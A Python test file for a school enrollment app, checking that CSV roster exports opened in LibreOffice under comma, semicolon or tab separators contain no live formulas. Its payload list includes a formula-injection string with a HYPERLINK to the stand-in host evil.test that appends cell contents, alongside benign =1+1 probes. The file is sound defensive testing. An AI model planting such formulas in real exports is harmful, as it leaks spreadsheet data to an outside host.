"""Issue 11, item 1: a CSV export opened in a real spreadsheet (LibreOffice, headless)
splitting on `,`, on `;` (Russian and Kazakh regional settings) and on tabs holds no formula,
whatever the names people typed."""

from __future__ import annotations

import shutil

import pytest
from openpyxl import load_workbook

from school.core.exports import csv_bytes, neutralise
from tests.libreoffice import convert, needs_libreoffice

PAYLOADS = [
    'Ivan;=HYPERLINK("http://evil.test/?"&A1;"x")',  # the attack of the issue: no comma
    "Ivan,=1+1",
    "Ivan\t=1+1",
    "Ivan; =1+1",
    'Ivan;"=1+1"',
    "a;+7 701;-2;@SUM(A1)",
    '"x";=4+4',
    "line\n=1+1",
    " =1+1",
    "=1+1",
    "+7 701 123 45 67",
]
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}


def _cells_read_by_libreoffice(tmp_path, data: bytes, separator: int) -> list:
    """Every cell LibreOffice makes of `data` when it splits on `separator`, formulas
    evaluated (the most dangerous import settings), as openpyxl cells of the saved XLSX."""
    source = tmp_path / "export.csv"
    source.write_bytes(data)
    # Separator, text delimiter ", UTF-8, from line 1, standard cells, language, quoted
    # fields not forced to text, special numbers detected, …, evaluate formulas.
    infilter = f"CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
    [converted] = convert([source], tmp_path / f"out-{separator}", infilter=infilter)
    sheet = load_workbook(converted).active
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]




def test_the_old_guard_would_fail_this_test(tmp_path):
    """The harness can fail: a field guarded only at its first character, unquoted, opens
    as a formula once a spreadsheet splits on `;`."""
    if not shutil.which("soffice"):
        pytest.skip("LibreOffice needed")
    old = "\ufeffname,email\r\nIvan;=1+1,a@b.kz\r\n".encode()
    cells = _cells_read_by_libreoffice(tmp_path, old, SEPARATORS["semicolon"])
    assert any(c.data_type == "f" for c in cells)


@needs_libreoffice
@pytest.mark.parametrize("separator", sorted(SEPARATORS))
def test_no_cell_is_a_formula_whatever_the_separator(tmp_path, separator):
    data = csv_bytes(["name", "=head"], [[p, p, 3, -2.5] for p in PAYLOADS])
    cells = _cells_read_by_libreoffice(tmp_path, data, SEPARATORS[separator])
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []


@needs_libreoffice
def test_roster_export_opens_without_formulas(client, login, make_event, make_user, tree,
                                              tmp_path):
    from school.enrollment import services
    from school.extensions import write_transaction

    event = make_event(capacity=5)
    evil = make_user("trainee", branch=tree["a"], full_name=PAYLOADS[0],
                     phone="+7 701 000 00 00")
    with write_transaction():
        services.enroll(event, evil)
    login(make_user("admin"))
    data = client.get(f"/events/{event.id}/roster.csv").data
    for separator in SEPARATORS.values():
        cells = _cells_read_by_libreoffice(tmp_path, data, separator)
        assert [c.value for c in cells if c.data_type == "f"] == []


def test_every_text_field_is_quoted_numbers_are_not():
    text = csv_bytes(["name", "n"], [["Ким", 3], [None, 2.5]]).decode("utf-8-sig")
    assert text.splitlines() == ['"name","n"', '"Ким",3', '"",2.5']


@pytest.mark.parametrize(("value", "expected"), [
    ("Ivan;=1+1", "Ivan;'=1+1"),
    ("a,+7;-1\t@x", "a,'+7;'-1\t'@x"),
    ('a; "=1', "a; \"'=1"),
    (" =1", "' =1"),
    ("a=b;c", "a=b;c"),
    ("Ахметов-Ким", "Ахметов-Ким"),
])
def test_neutralise_after_every_separator(value, expected):
    assert neutralise(value) == expected
